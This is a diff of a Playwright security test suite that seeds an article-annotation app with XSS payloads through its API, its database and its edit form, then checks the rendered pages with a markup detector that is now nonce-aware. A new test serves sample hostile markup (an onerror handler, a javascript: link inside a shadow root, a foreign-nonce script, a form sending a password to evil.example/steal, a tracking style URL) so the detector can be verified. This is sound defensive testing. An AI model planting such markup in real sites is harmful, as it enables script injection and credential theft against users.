@@ -2,7 +2,7 @@ import { readFileSync } from "node:fs";
 import type { APIRequestContext } from "@playwright/test";
 import { contextHeaders, expect, test } from "../support/fixtures";
 import { createActors, disposeActors, type Actor, type RoleName } from "./support/actors";
-import { findDangerousMarkup, watchForScripts } from "./support/dom-safety";
+import { cspNonce, findDangerousMarkup, watchForScripts } from "./support/dom-safety";
 import { createOwnArticle, dropOwnArticle, newId, openTestDb, type OwnArticle } from "./support/seed-targets";
 
 /**
@@ -46,23 +46,28 @@ test.describe("XSS", () => {
           versionId: article.versionId,
           selectors: article.selectors,
           body: `canary-body-${index}\n\n${batch.join("\n\n")}`.slice(0, 10_000),
-          sources: batch.slice(0, 10).map((payload, n) => ({ url: `https://example.test/${index}/${n}?q=${encodeURIComponent(payload)}`, title: payload.slice(0, 200), stance: "CONTEXT" })),
+          // Titles rotate through the batch from a different start per batch; with the direct rows below, every payload is a title.
+          sources: batch.slice(0, 10).map((_, n) => batch[(n + index) % batch.length]!).map((payload, n) => ({ url: `https://example.test/${index}/${n}?q=${encodeURIComponent(payload)}`, title: payload.slice(0, 200), stance: "CONTEXT" })),
         },
       });
       expect(response.status(), await response.text()).toBe(200);
       const { id } = (await response.json()) as { id: string };
       annotationIds.push(id);
       // Hostile tags, names and handles cannot pass validation, so they are written directly: rendering must hold even then.
-      await hookDb.query(`UPDATE "Annotation" SET tags = $2 WHERE id = $1`, [id, batch.slice(0, 10).map(storable)]);
+      // Every payload of the batch is a tag.
+      await hookDb.query(`UPDATE "Annotation" SET tags = $2 WHERE id = $1`, [id, batch.map(storable)]);
       for (const [n, url] of SCRIPT_URLS.entries()) {
-        await hookDb.query(`INSERT INTO "AnnotationSource" (id, "annotationId", url, title, stance, position) VALUES ($1, $2, $3, $4, 'DISPUTES', $5)`, [newId(), id, url, storable(batch[n] ?? "x"), 10 + n]);
+        // The titles the API sources above did not take (the batch's last four, rotated), then the rotation's start again.
+        const title = batch[(10 + n + index) % batch.length] ?? "x";
+        await hookDb.query(`INSERT INTO "AnnotationSource" (id, "annotationId", url, title, stance, position) VALUES ($1, $2, $3, $4, 'DISPUTES', $5)`, [newId(), id, url, storable(title), 10 + n]);
       }
       const authorId = newId();
       await hookDb.query(`INSERT INTO "User" (id, email, name, handle, "emailVerifiedAt", "updatedAt") VALUES ($1, $2, $3, $4, now(), now())`, [
         authorId,
         `xss-${authorId}@example.test`,
         storable(`canary-name-${index} ${batch.join(" ")}`).slice(0, 2000),
-        storable(`canary-handle-${index}-${authorId.slice(1, 7)}-${batch[0]}`).slice(0, 200),
+        // Every payload of the batch in the handle (not only the first).
+        storable(`canary-handle-${index}-${authorId.slice(1, 7)}-${batch.join("")}`).slice(0, 4000),
       ]);
       await hookDb.query(`UPDATE "Annotation" SET "authorId" = $2 WHERE id = $1`, [id, authorId]);
       // Flagged, so the moderation queue shows it with its author's name.
@@ -94,7 +99,7 @@ test.describe("XSS", () => {
       await page.waitForLoadState("load");
       const text = await page.locator("body").innerText();
       for (const canary of canaries) if (!text.includes(canary)) problems.push(`${path}: ${canary} not shown (the payloads were not rendered)`);
-      problems.push(...(await findDangerousMarkup(page)).map((finding) => `${path}: ${finding}`));
+      problems.push(...(await findDangerousMarkup(page, cspNonce(response?.headers()))).map((finding) => `${path}: ${finding}`));
     };
     await visit(`/articles/${article!.slug}`, []);
     for (const [index, id] of annotationIds.entries()) await visit(`/a/${id}`, [`canary-body-${index}`, `canary-handle-${index}-`, `canary-reply-${index}`]);
@@ -116,20 +121,26 @@ test.describe("XSS", () => {
     const page = await context.newPage();
     const events = await watchForScripts(page);
     await page.goto(`/articles/${article!.slug}/edit`);
-    await page.getByLabel("Title", { exact: true }).fill(`canary-title ${payloads[0]}`.slice(0, 300));
-    await page.getByLabel("Author", { exact: true }).fill(payloads[1]!.slice(0, 200));
-    await page.getByLabel("Source (optional)").fill(payloads[2]!.slice(0, 300));
-    await page.getByLabel("Lead (optional)").fill(payloads.slice(3, 8).join(" ").slice(0, 2000));
+    // Payloads spread over the short fields by stride, so each field meets every category, not only the first few payloads.
+    const spread = (start: number, stride: number, limit: number) => {
+      let text = "";
+      for (let index = start; index < payloads.length && text.length < limit; index += stride) text += `${payloads[index]!.replace(/\n/g, " ")} `;
+      return text.slice(0, limit);
+    };
+    await page.getByLabel("Title", { exact: true }).fill(`canary-title ${spread(0, 7, 280)}`.slice(0, 300));
+    await page.getByLabel("Author", { exact: true }).fill(spread(1, 11, 200));
+    await page.getByLabel("Source (optional)").fill(spread(2, 13, 300));
+    await page.getByLabel("Lead (optional)").fill(spread(3, 2, 2000));
     const body = await page.getByLabel("Body", { exact: true }).inputValue();
     await page.getByLabel("Body", { exact: true }).fill(`${body}\n\ncanary-article-body\n\n${payloads.map((payload) => payload.replace(/\n/g, " ")).join("\n\n")}`);
-    await page.getByLabel("About the author (optional)").fill(payloads.slice(8, 14).join(" ").slice(0, 2000));
+    await page.getByLabel("About the author (optional)").fill(spread(4, 2, 2000));
     await page.getByRole("button", { name: "Publish new version" }).click();
     await expect.poll(async () => (await hookDb.query(`SELECT count(*)::int AS n FROM "ArticleVersion" WHERE "articleId" = $1`, [article!.articleId])).rows[0].n as number, { timeout: 30_000 }).toBe(2);
     const problems: string[] = [];
     for (const path of [`/articles/${article!.slug}`, `/articles/${article!.slug}/edit`, "/"]) {
-      await page.goto(path);
+      const response = await page.goto(path);
       await page.waitForLoadState("load");
-      problems.push(...(await findDangerousMarkup(page)).map((finding) => `${path}: ${finding}`));
+      problems.push(...(await findDangerousMarkup(page, cspNonce(response?.headers()))).map((finding) => `${path}: ${finding}`));
     }
     await page.goto(`/articles/${article!.slug}`);
     await expect(page.getByText("canary-article-body")).toBeVisible();
@@ -146,5 +157,25 @@ test.describe("XSS", () => {
     await page.goto("http://control.test/");
     await expect.poll(() => events.length).toBeGreaterThanOrEqual(2);
     expect((await findDangerousMarkup(page)).length).toBeGreaterThanOrEqual(3);
+  });
+
+  test("the markup detector looks inside shadow roots and templates, and knows forms, styles and foreign nonces", async ({ page }) => {
+    await page.route("http://control.test/", (route) =>
+      route.fulfill({
+        contentType: "text/html",
+        body: `<template><img src=x onerror="alert(1)"></template><div id="host"></div>
+          <script nonce="ours">document.getElementById("host").attachShadow({ mode: "open" }).innerHTML = '<a href="javascript:alert(1)">x</a>';</script>
+          <script nonce="theirs">void 0</script>
+          <form action="https://evil.example/steal"><input name="password"></form>
+          <style nonce="ours">body { background: url(https://evil.example/track) }</style>`,
+      }),
+    );
+    await page.goto("http://control.test/");
+    const findings = (await findDangerousMarkup(page, "ours")).join("\n");
+    expect(findings).toContain("event handler onerror");
+    expect(findings).toContain("href=javascript:alert(1)");
+    expect(findings).toContain('script without our nonce: <script nonce="theirs">');
+    expect(findings).toContain("off-site action");
+    expect(findings).toContain("style element");
   });
 });
